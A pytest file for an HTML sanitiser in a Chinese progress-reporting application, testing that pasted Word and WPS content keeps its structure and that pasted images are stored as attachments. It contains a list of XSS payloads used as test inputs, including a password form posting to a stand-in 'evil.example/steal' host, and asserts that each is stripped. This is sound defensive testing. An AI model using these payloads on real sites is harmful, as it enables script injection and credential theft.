# ruff: noqa: E501 — Word and WPS paste HTML with long lines, kept as they come
"""The rich text of progress reports: what a clerk pastes from Word or WPS keeps its structure, nothing dangerous
survives, and pasted images become stored attachments."""

from __future__ import annotations

import base64
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from infocity.progress.richtext import (
    ATTRIBUTES,
    LINK_REL,
    TAGS,
    PastedImageRefused,
    RichTextRefused,
    RichTextTooLong,
    extract_data_images,
    plain_text,
    sanitize,
)


def _image(kind: str = "PNG", size: tuple[int, int] = (4, 3)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


PNG = _image()
PNG_URI = "data:image/png;base64," + base64.b64encode(PNG).decode()

# What Chrome hands a contenteditable editor when a clerk copies part of a Word 2016 document (the editor has
# already replaced the picture's file:/// path with the clipboard image as a data: URI; the second picture,
# left as Word gives it, points at the clerk's disk).
WORD_PASTE = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/Users/clerk/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom><w:TrackMoves>false</w:TrackMoves>
<w:DoNotPromoteQF/><w:LidThemeOther>EN-US</w:LidThemeOther></w:WordDocument></xml><![endif]-->
<style><!-- /* Font Definitions */ @font-face {{font-family:宋体; panose-1:2 1 6 0 3 1 1 1 1 1;}}
p.MsoNormal, li.MsoNormal {{mso-style-unhide:no; margin:0cm; text-align:justify; font-size:10.5pt;}}
@list l0:level1 {{mso-level-number-format:bullet; mso-level-text:; }} --></style></head>
<body lang=ZH-CN style='tab-interval:21.0pt;word-wrap:break-word'><!--StartFragment-->
<div class=WordSection1 style='layout-grid:15.6pt'>
<h1 style='mso-list:l2 level1 lfo3'><![if !supportLists]><span lang=EN-US style='mso-fareast-font-family:黑体'><span
style='mso-list:Ignore'>一、<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><a
name="_Toc462"></a><span style='font-family:黑体'>总体进展情况</span><span lang=EN-US><o:p></o:p></span></h1>
<p class=MsoNormal style='text-indent:21.0pt;mso-char-indent-count:2.0'><span style='font-family:仿宋_GB2312'>2016年上半年，我市
信息消费规模达到<b style='mso-bidi-font-weight:normal'><span lang=EN-US>1,235</span>亿元</b>，同比增长<span
lang=EN-US>18.6%</span>。<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<h2><span style='font-family:楷体'>（一）重点工作</span></h2>
<p class=MsoListParagraphCxSpFirst style='margin-left:21.0pt;mso-para-margin-left:0gd;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=EN-US style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:仿宋_GB2312'>光纤宽带网络建设<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:42.0pt;text-indent:-21.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span
lang=EN-US style='font-family:Wingdings'><span style='mso-list:Ignore'>n<span style='font:7.0pt "Times New Roman"'>&nbsp;
</span></span></span><![endif]><span style='font-family:仿宋_GB2312'>新增光纤入户<span lang=EN-US>12</span>万户</span></p>
<p class=MsoListParagraphCxSpLast style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=EN-US style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;
</span></span></span><![endif]><span style='font-family:仿宋_GB2312'>信息惠民工程</span></p>
<p class=MsoListParagraphCxSpFirst style='margin-left:18.0pt;text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span
lang=EN-US><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:仿宋_GB2312'>出台《信息消费三年行动计划》</span></p>
<p class=MsoListParagraphCxSpLast style='margin-left:18.0pt;text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span
lang=EN-US><span style='mso-list:Ignore'>2.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:仿宋_GB2312'>建成城市数据开放平台</span></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt'>
<tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'><td width=277 colspan=2 valign=top style='width:207.4pt;border:solid windowtext 1.0pt'>
<p class=MsoNormal align=center style='text-align:center'><b><span style='font-family:黑体'>指标</span></b></p></td>
<td width=138 valign=top style='width:103.7pt'><p class=MsoNormal><b><span style='font-family:黑体'>数值</span></b></p></td></tr>
<tr><td width=138 rowspan=2 valign=top style='width:103.7pt'><p class=MsoNormal><span style='font-family:宋体'>宽带</span></p></td>
<td width=138 valign=top><p class=MsoNormal><span style='font-family:宋体'>用户数</span></p></td>
<td width=138 valign=top><p class=MsoNormal><span lang=EN-US>320</span></p></td></tr>
<tr><td width=138 valign=top><p class=MsoNormal><span style='font-family:宋体'>普及率</span></p></td>
<td width=138 valign=top><p class=MsoNormal><span lang=EN-US>77.8%<o:p></o:p></span></p></td></tr></table>
<p class=MsoNormal><span lang=EN-US><!--[if gte vml 1]><v:shape id="图片_x0020_1" o:spid="_x0000_i1025" type="#_x0000_t75"
style='width:415pt;height:233pt'><v:imagedata src="file:///C:/Users/clerk/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png"
o:title=""/></v:shape><![endif]--><![if !vml]><img width=553 height=311 src="{PNG_URI}" alt="图1 宽带用户增长" v:shapes="图片_x0020_1"><![endif]></span></p>
<p class=MsoNormal><![if !vml]><img width=200 height=100 src="file:///C:/Users/clerk/AppData/Local/Temp/msohtmlclip1/01/clip_image003.jpg"
v:shapes="图片_x0020_2"><![endif]></p>
</div><!--EndFragment--></body></html>"""

# What WPS Office 2016 puts on the clipboard: Word's format with its own habits (Section0, mso-spacerun, the
# bullet as a Wingdings "l" without an mso-list:Ignore span, pictures in its ksohtml temporary folder — the
# editor has replaced the first with the clipboard image).
WPS_PASTE = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 14"><!--[if !mso]><style>v\\:* {{behavior:url(#default#VML);}}
o\\:* {{behavior:url(#default#VML);}}</style><![endif]--><!--[if gte mso 9]><xml><w:WordDocument>
<w:BrowserLevel>MicrosoftInternetExplorer4</w:BrowserLevel><w:DisplayHorizontalDrawingGridEvery>1</w:DisplayHorizontalDrawingGridEvery>
</w:WordDocument></xml><![endif]--><style>@font-face{{font-family:"Times New Roman";}} @font-face{{font-family:"宋体";}}
p.MsoNormal{{mso-style-name:正文;margin:0pt;font-size:10.5000pt;font-family:Calibri;}} span.msoIns{{mso-style-type:export-only;}}
@page{{mso-page-border-surround-header:no;}} @page Section0{{margin-top:72.0000pt;}} div.Section0{{page:Section0;}}</style></head>
<body style="tab-interval:21.0000pt;text-justify-trim:punctuation;"><!--StartFragment-->
<div class="Section0" style="layout-grid:15.6000pt;">
<h1 style="margin-top:17.0000pt;margin-bottom:16.5000pt;mso-para-margin-top:0.0000gd;page-break-after:avoid;"><b><span
style="mso-spacerun:'yes';font-family:宋体;font-weight:bold;font-size:22.0000pt;mso-font-kerning:22.0000pt;">典型应用：智慧社区</span></b><b><span
style="mso-spacerun:'yes';font-family:宋体;font-weight:bold;font-size:22.0000pt;"><o:p></o:p></span></b></h1>
<h3 style="margin-top:13.0000pt;"><b><span style="mso-spacerun:'yes';font-family:Calibri;">建设内容</span></b></h3>
<p class=MsoNormal style="margin-left:18.0000pt;text-indent:-18.0000pt;mso-list:l0 level1 lfo1;"><![if !supportLists]><span
style="font-family:Wingdings;mso-fareast-font-family:宋体;font-size:10.5000pt;">l</span><span>&nbsp;</span><![endif]><span
style="mso-spacerun:'yes';font-family:宋体;font-size:10.5000pt;">社区服务<font face="宋体">一</font>网通办</span></p>
<p class=MsoNormal style="margin-left:18.0000pt;text-indent:-18.0000pt;mso-list:l0 level1 lfo1;"><![if !supportLists]><span
style="font-family:Wingdings;font-size:10.5000pt;">l</span><span>&nbsp;</span><![endif]><span style="font-family:宋体;">居家养老<b>智能终端</b></span></p>
<p class=MsoNormal style="margin-left:21.0000pt;text-indent:-21.0000pt;mso-list:l1 level1 lfo2;"><![if !supportLists]><span
style="font-family:宋体;"><span style='mso-list:Ignore;'>（1）<span>&nbsp;</span></span></span><![endif]><span style="font-family:宋体;">覆盖<span
style="font-family:Calibri;">52</span>个社区</span></p>
<p class=MsoNormal style="margin-left:21.0000pt;text-indent:-21.0000pt;mso-list:l1 level1 lfo2;"><![if !supportLists]><span
style="font-family:宋体;"><span style='mso-list:Ignore;'>（2）<span>&nbsp;</span></span></span><![endif]><span style="font-family:宋体;">服务<span
style="font-family:Calibri;">18</span>万居民</span></p>
<p class=MsoNormal><span style="mso-spacerun:'yes';font-family:Calibri;"><o:p>&nbsp;</o:p></span></p>
<table class=MsoTableGrid border=1 cellspacing=0 style="border-collapse:collapse;width:426.1000pt;mso-table-layout-alt:fixed;">
<tr><td width=284 valign=top colspan=2 style="width:284.0000pt;padding:0.0000pt 5.4000pt;border:1.0000pt solid windowtext;"><p
class=MsoNormal align=center style="text-align:center;"><b><span style="font-family:宋体;">项目</span></b></p></td><td width=142 valign=top><p
class=MsoNormal><b><span style="font-family:宋体;">投资（万元）</span></b></p></td></tr>
<tr><td width=142 valign=top rowspan=2><p class=MsoNormal><span style="font-family:宋体;">一期</span></p></td><td width=142 valign=top><p
class=MsoNormal><span style="font-family:宋体;">平台</span></p></td><td width=142 valign=top><p class=MsoNormal><span
style="font-family:Calibri;">860</span></p></td></tr>
<tr><td width=142 valign=top><p class=MsoNormal><span style="font-family:宋体;">终端</span></p></td><td width=142 valign=top><p
class=MsoNormal><span style="font-family:Calibri;">1,240</span></p></td></tr></table>
<p class=MsoNormal><span style="font-family:宋体;"><img width="321" height="180" src="{PNG_URI}" ></span><span
style="font-family:宋体;"><img width="120" height="80" src="file:///C:/Users/clerk/AppData/Local/Temp/ksohtml/wps2.jpg" ></span></p>
</div><!--EndFragment--></body></html>"""

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">链接</a>',
    '<a href=" jav&#x09;ascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="&#106;avascript:alert(1)">链接</a>',
    '<a href="javascript&colon;alert(1)">链接</a>',
    '<a href="jav&#x0A;ascript:alert(1)">链接</a>',
    '<a href="\x01javascript:alert(1)">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<a href="data:text/html,<script>alert(1)</script>">链接</a>',
    '<p style="width: expression(alert(1))">文字</p>',
    '<div style="background:url(javascript:alert(1))">文字</div>',
    '<xss style="behavior:url(x.htc)">文字</xss>',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点我</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">提交</button></form>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="/progress/files/../../accounts/logout/">',
    '<img src="/progress/files//evil.example/x.png">',
    '<img src="/progress/files/1/?next=javascript:alert(1)">',
    '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/a.png">',
    '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">格</td></tr></table>',
    '<style>@import url("https://evil.example/x.css");</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->",
    '<P OnClIcK="alert(1)">文字</P>',
    '<img src="/progress/files/1/" ONERROR=alert(1) OnLoad="alert(1)">',
    "<p onmouseover=alert(1)>文字",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<select><option><script>alert(1)</script></option></select>",
    "<details open ontoggle=alert(1)>文字</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>文字</body>",
    '<a href="https://ok.example/" target="_blank" rel="opener" onclick="alert(1)">链接</a>',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div id="x" class="MsoNormal" lang="EN-US" title="t" dir="rtl" data-x="1" contenteditable>文字</div>',
]
# Payloads whose dangerous word is left as harmless, escaped text (the parser reads it as text, not a tag).
TEXT_REMAINS = {"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)<</script>/script>"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def _assert_only_allowed(html: str) -> None:
    for tag, attrs in _elements(html):
        assert tag in TAGS, tag
        allowed = ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, (tag, attrs)
        if tag == "a":
            assert attrs["rel"] == LINK_REL
            assert str(attrs["href"]).startswith(("http://", "https://", "mailto:"))
        if tag == "img":
            src = str(attrs["src"])
            assert src.startswith(
                ("/progress/files/", *(f"data:image/{k};base64," for k in ("png", "jpeg", "gif", "webp")))
            )


def _tags(html: str) -> list[str]:
    return [tag for tag, _ in _elements(html)]


# --- pasted from Word and WPS -----------------------------------------------------------------------------------


def test_a_word_paste_keeps_headings_lists_tables_and_images() -> None:
    html = sanitize(WORD_PASTE)

    _assert_only_allowed(html)
    assert "<h1>一、 总体进展情况</h1>" in html  # Word's own heading numbering is kept as text
    assert "<h2>（一）重点工作</h2>" in html
    assert "<p>2016年上半年，我市信息消费规模达到<strong>1,235亿元</strong>，同比增长18.6%。</p>" in html
    assert "<ul><li>光纤宽带网络建设<ul><li>新增光纤入户12万户</li></ul></li><li>信息惠民工程</li></ul>" in html
    assert "<ol><li>出台《信息消费三年行动计划》</li><li>建成城市数据开放平台</li></ol>" in html
    assert (
        '<table><tbody><tr><td colspan="2"><strong>指标</strong></td><td><strong>数值</strong></td></tr>'
        '<tr><td rowspan="2">宽带</td><td>用户数</td><td>320</td></tr><tr><td>普及率</td><td>77.8%</td></tr>'
        "</tbody></table>"
    ) in html
    assert f'<img width="553" height="311" src="{PNG_URI}" alt="图1 宽带用户增长">' in html
    assert _tags(html).count("img") == 1  # the picture left on the clerk's disk (file:///) is dropped
    for word_only in ("mso", "o:p", "xml", "WordDocument", "Normal", "font-family", "class=", "style=", "file:", "Toc"):
        assert word_only not in html
    assert "<p></p>" not in html
    assert sanitize(html) == html


def test_a_wps_paste_keeps_headings_lists_tables_and_images() -> None:
    html = sanitize(WPS_PASTE)

    _assert_only_allowed(html)
    assert "<h1><strong>典型应用：智慧社区</strong></h1>" in html
    assert "<h3><strong>建设内容</strong></h3>" in html
    assert "<ul><li>社区服务一网通办</li><li>居家养老<strong>智能终端</strong></li></ul>" in html
    assert "<ol><li>覆盖52个社区</li><li>服务18万居民</li></ol>" in html
    assert '<td colspan="2"><strong>项目</strong></td>' in html
    assert '<td rowspan="2">一期</td>' in html
    assert "<td>1,240</td>" in html
    assert _tags(html).count("tr") == 3
    assert _tags(html).count("img") == 1
    assert f'<img width="321" height="180" src="{PNG_URI}">' in html
    for wps_only in ("mso", "Section0", "ksohtml", "Wingdings", "font", "MicrosoftInternetExplorer4", "&nbsp;"):
        assert wps_only not in html
    assert sanitize(html) == html


def test_text_typed_in_the_editor_becomes_paragraphs() -> None:
    typed = (
        "第一段文字<div>第二段<b>加粗</b>、<i>斜体</i>、<u>下划线</u>、<strike>删除</strike></div><div><br></div>"
        "<div>H<sub>2</sub>O 与 m<sup>2</sup></div><div><br></div><div><br></div><blockquote>引用</blockquote>"
        "<ul><li>甲</li><li><br></li><li>乙</li></ul><p>&nbsp;</p><p>\u3000</p><div>行一<br>行二<br></div>"
    )

    assert sanitize(typed) == (
        "<p>第一段文字</p><p>第二段<strong>加粗</strong>、<em>斜体</em>、<u>下划线</u>、<s>删除</s></p>"
        "<p>H<sub>2</sub>O 与 m<sup>2</sup></p><blockquote>引用</blockquote><ul><li>甲</li><li>乙</li></ul>"
        "<p>行一<br>行二</p>"
    )


def test_h5_and_h6_become_h4_and_empty_headings_go() -> None:
    assert sanitize("<h4>四</h4><h5>五</h5><h6>六</h6><h2> </h2>") == "<h4>四</h4><h4>五</h4><h4>六</h4>"


def test_a_div_holding_blocks_is_unwrapped_and_its_loose_text_becomes_a_paragraph() -> None:
    html = sanitize("<div>导语<h2>标题</h2>正文<table><tr><td>格</td></tr></table></div>")

    assert html == "<p>导语</p><h2>标题</h2><p>正文</p><table><tbody><tr><td>格</td></tr></tbody></table>"


# --- nothing dangerous survives ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", XSS)
def test_nothing_dangerous_survives(payload: str) -> None:
    html = sanitize(payload)
    lowered = html.lower()

    _assert_only_allowed(html)
    for word in ("<script", "onerror", "onload", "onclick", "javascript:", "vbscript", "expression(", "evil.example",
                 "data:text", "svg", "<iframe", "@import", "behavior", "style=", "<meta", "<base", "<form"):  # fmt: skip
        assert word not in lowered, (payload, html)
    if payload not in TEXT_REMAINS:
        assert "script" not in lowered and "javascript" not in lowered
    assert sanitize(html) == html


def test_the_text_of_a_payload_is_escaped_not_executed() -> None:
    assert sanitize("<<script>script>alert(1)<</script>/script>") == "<p>&lt;/script&gt;</p>"


def test_links_keep_only_web_and_mail_addresses_and_get_a_safe_rel() -> None:
    html = sanitize(
        '<p><a href="https://www.miit.gov.cn/" rel="opener" target="_blank">工信部</a> '
        '<a href="mailto:xxs@miit.gov.cn">邮件</a> <a href="/accounts/logout/">站内</a> <a href="#_Toc1">目录</a> '
        '<a href="ftp://example.org/">ftp</a></p>'
    )

    assert html == (
        f'<p><a href="https://www.miit.gov.cn/" rel="{LINK_REL}">工信部</a> '
        f'<a href="mailto:xxs@miit.gov.cn" rel="{LINK_REL}">邮件</a> 站内 目录 ftp</p>'
    )


def test_images_are_kept_only_from_our_files_or_pasted() -> None:
    html = sanitize(
        '<p><img src="/progress/files/12/" alt="图 2" width="300px" height="abc">'
        '<img src="DATA:image/JPG;base64,/9j/4AAQ"><img src="https://example.org/x.png">'
        '<img src="data:image/png,notbase64"><img src="file:///C:/x.png"></p>'
    )

    assert (
        html
        == '<p><img src="/progress/files/12/" alt="图 2" width="300"><img src="data:image/jpeg;base64,/9j/4AAQ"></p>'
    )


def test_the_image_path_prefix_is_a_parameter() -> None:
    assert sanitize('<img src="/media/a.png">', image_prefix="/media/") == '<p><img src="/media/a.png"></p>'
    assert sanitize('<img src="/progress/files/1/">', image_prefix="/media/") == ""


def test_cell_spans_are_numbers_within_bounds() -> None:
    html = sanitize(
        '<table><tr><td colspan="99999">甲</td><td rowspan="0">乙</td><td colspan="two">丙</td>'
        '<th rowspan=" 3 ">丁</th></tr></table>'
    )

    assert html == (
        '<table><tbody><tr><td colspan="1000">甲</td><td>乙</td><td>丙</td><th rowspan="3">丁</th></tr></tbody></table>'
    )


def test_too_long_text_is_refused_with_a_chinese_message() -> None:
    with pytest.raises(RichTextTooLong, match=r"正文过长.*上限为 1,000"):
        sanitize("<p>" + "很长的文字" * 300 + "</p>", max_length=1000)
    assert issubclass(RichTextTooLong, ValueError)


def test_pasted_images_do_not_count_towards_the_length() -> None:
    big = "data:image/png;base64," + "A" * 5000
    assert sanitize(f'<p>短文</p><img src="{big}">', max_length=1000).endswith(f'<img src="{big}"></p>')


def test_text_that_looks_like_a_pasted_image_counts() -> None:
    text = "data:image/png;base64," + "A" * 5000

    with pytest.raises(RichTextTooLong):
        sanitize(f"<p>{text}</p>", max_length=1000)
    with pytest.raises(RichTextTooLong):
        sanitize(f'<p> src="{text}"</p>', max_length=1000)


def test_a_huge_paste_is_refused_before_parsing() -> None:
    with pytest.raises(RichTextTooLong, match="粘贴的内容过长"):
        sanitize("<p><span>x</span></p>" * 20_000, max_length=1000)


def test_absurdly_deep_nesting_is_refused() -> None:
    with pytest.raises(RichTextRefused, match="嵌套"):
        sanitize("<div>" * 500 + "深")
    with pytest.raises(RichTextRefused, match="嵌套"):
        sanitize("".join(f'<b id="{i}">' for i in range(40)) + "粗" + "<p>段</p>" * 100)


def test_empty_input_gives_empty_text() -> None:
    assert sanitize("") == ""
    assert sanitize("  \n ") == ""
    assert sanitize("<p>&nbsp;</p><p><br></p><div> </div><o:p></o:p>") == ""


# --- a fixed point ----------------------------------------------------------------------------------------------

_FRAGMENTS = [
    "<p>", "</p>", "<div>", "</div>", "<span>", "</span>", "<b>", "</b>", "<i>", "</i>", "<strong>", "</strong>",
    "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>", "<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>",
    "<th colspan=2>", "<td rowspan='3'>", "<caption>", "</caption>", "<tbody>", "<thead>", "<tfoot>", "<h1>", "</h1>",
    "<h5>", "</h5>", "<h6>", "<blockquote>", "</blockquote>", "<br>", "<br/>", "<hr>", "<img src='/progress/files/1/'>",
    f"<img src='{PNG_URI}' alt='图'>", "<img src='http://x/y.png'>", "<a href='https://example.org/a?b=1&c=2'>",
    "<a href='javascript:alert(1)'>", "<a name='_Toc1'>", "</a>", "<font color=red>", "</font>", "<o:p>", "</o:p>",
    "&nbsp;", " ", "\n", "\u3000", "text", "文字", "&amp;", "&lt;", "<", ">", '"', "'", "<!-- c -->",
    "<![if !supportLists]>", "<![endif]>", "<p style='mso-list:l0 level1 lfo1'>", "<p style='mso-list:l0 level2 lfo1'>",
    "<p style='mso-list:l1 level1 lfo2'>", "<span style='mso-list:Ignore'>", "·", "1.", "a)", "<sub>", "</sub>", "<sup>",
    "<u>", "<s>", "<strike>", "<em>", "<section>", "<pre>", "</pre>", "<dl><dt>", "<dd>", "<center>", "<script>",
    "</script>", "<style>", "</style>", "<svg>", "<math>", "<select>", "<option>", "<textarea>", "<form>", "<input>",
    "<p onclick=x>", "<noscript>", "</noscript>", "<template>", "<xml>", "</xml>", "<title>", "<table><tr><td>",
    "</td></tr></table>", "<h2 style='mso-list:l0 level1 lfo1'>", "<address>", "<figure>", "<a href='mailto:x@y.cn'>",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS) | st.text(max_size=6), max_size=40).map("".join))
def test_sanitizing_twice_changes_nothing(html: str) -> None:
    try:
        once = sanitize(html)
    except RichTextRefused:
        return
    _assert_only_allowed(once)
    assert sanitize(once) == once


def test_the_samples_are_fixed_points() -> None:
    for sample in (WORD_PASTE, WPS_PASTE, *XSS):
        once = sanitize(sample)
        assert sanitize(once) == once


# --- plain text -------------------------------------------------------------------------------------------------


def test_plain_text_has_one_line_per_block() -> None:
    text = plain_text(sanitize(WORD_PASTE))

    assert text.split("\n")[:6] == [
        "一、 总体进展情况",
        "2016年上半年，我市信息消费规模达到1,235亿元，同比增长18.6%。",
        "（一）重点工作",
        "• 光纤宽带网络建设",
        "• 新增光纤入户12万户",
        "• 信息惠民工程",
    ]
    assert "1. 出台《信息消费三年行动计划》\n2. 建成城市数据开放平台" in text
    assert "指标\t数值\n宽带\t用户数\t320\n普及率\t77.8%" in text


def test_plain_text_ignores_scripts_styles_and_comments_of_raw_html() -> None:
    assert plain_text("<style>p{}</style><p>甲&nbsp;&amp;  乙</p><script>x()</script><!-- c --><p></p>") == "甲 & 乙"
    assert plain_text("") == ""


# --- pasted images become attachments ---------------------------------------------------------------------------


class _Store:
    def __init__(self, prefix: str = "/progress/files/") -> None:
        self.calls: list[tuple[bytes, str]] = []
        self.prefix = prefix

    def __call__(self, data: bytes, mime: str) -> str:
        self.calls.append((data, mime))
        return f"{self.prefix}{len(self.calls)}/"


def test_pasted_images_are_stored_and_pointed_at() -> None:
    jpeg = _image("JPEG", (8, 8))
    jpeg_uri = "data:image/jpeg;base64," + base64.b64encode(jpeg).decode()
    store = _Store()

    html = extract_data_images(
        f'<p>图：<img src="{PNG_URI}" alt="甲"></p><p><img src="{jpeg_uri}"><img src="{PNG_URI}"></p>', store
    )

    assert store.calls == [(PNG, "image/png"), (jpeg, "image/jpeg")]  # the same image pasted twice is stored once
    assert html == (
        '<p>图：<img src="/progress/files/1/" alt="甲"></p>'
        '<p><img src="/progress/files/2/"><img src="/progress/files/1/"></p>'
    )
    assert sanitize(html) == html


def test_the_real_type_of_a_pasted_image_wins() -> None:
    gif = _image("GIF")
    store = _Store()

    extract_data_images('<img src="data:image/png;base64,' + base64.b64encode(gif).decode() + '">', store)

    assert store.calls == [(gif, "image/gif")]


def test_text_without_pasted_images_is_only_sanitised() -> None:
    store = _Store()

    assert extract_data_images('<p onclick="x">文字<img src="/progress/files/3/"></p>', store) == (
        '<p>文字<img src="/progress/files/3/"></p>'
    )
    assert store.calls == []


def test_an_oversized_pasted_image_is_refused_and_nothing_is_stored() -> None:
    store = _Store()
    big = "data:image/png;base64," + base64.b64encode(PNG + b"\0" * 3000).decode()

    with pytest.raises(PastedImageRefused, match=r"第 2 张图片过大.*上限为 0 MB"):
        extract_data_images(f'<img src="{PNG_URI}"><img src="{big}">', store, max_image_bytes=2000)
    assert store.calls == []


def test_data_that_is_not_an_image_is_refused() -> None:
    store = _Store()
    not_image = "data:image/png;base64," + base64.b64encode(b"%PDF-1.4 not an image").decode()

    with pytest.raises(PastedImageRefused, match="第 1 张图片无法使用：内容不是 PNG、JPEG、GIF 或 WebP 图片"):
        extract_data_images(f'<img src="{not_image}">', store)
    assert store.calls == []


def test_a_broken_pasted_image_is_refused() -> None:
    truncated = "data:image/png;base64," + base64.b64encode(PNG[:40]).decode()

    with pytest.raises(PastedImageRefused, match="图片文件已损坏"):
        extract_data_images(f'<img src="{truncated}">', _Store())


def test_pasted_html_and_svg_never_reach_the_store() -> None:
    store = _Store()
    svg = "data:image/svg+xml;base64," + base64.b64encode(b"<svg onload='alert(1)'/>").decode()

    assert extract_data_images(f'<img src="{svg}"><a href="data:text/html,x">文</a>', store) == "<p>文</p>"
    assert store.calls == []


def test_a_store_answering_outside_the_prefix_is_a_programming_error() -> None:
    with pytest.raises(RuntimeError, match="not an image URL"):
        extract_data_images(f'<img src="{PNG_URI}">', _Store(prefix="https://elsewhere.example/"))
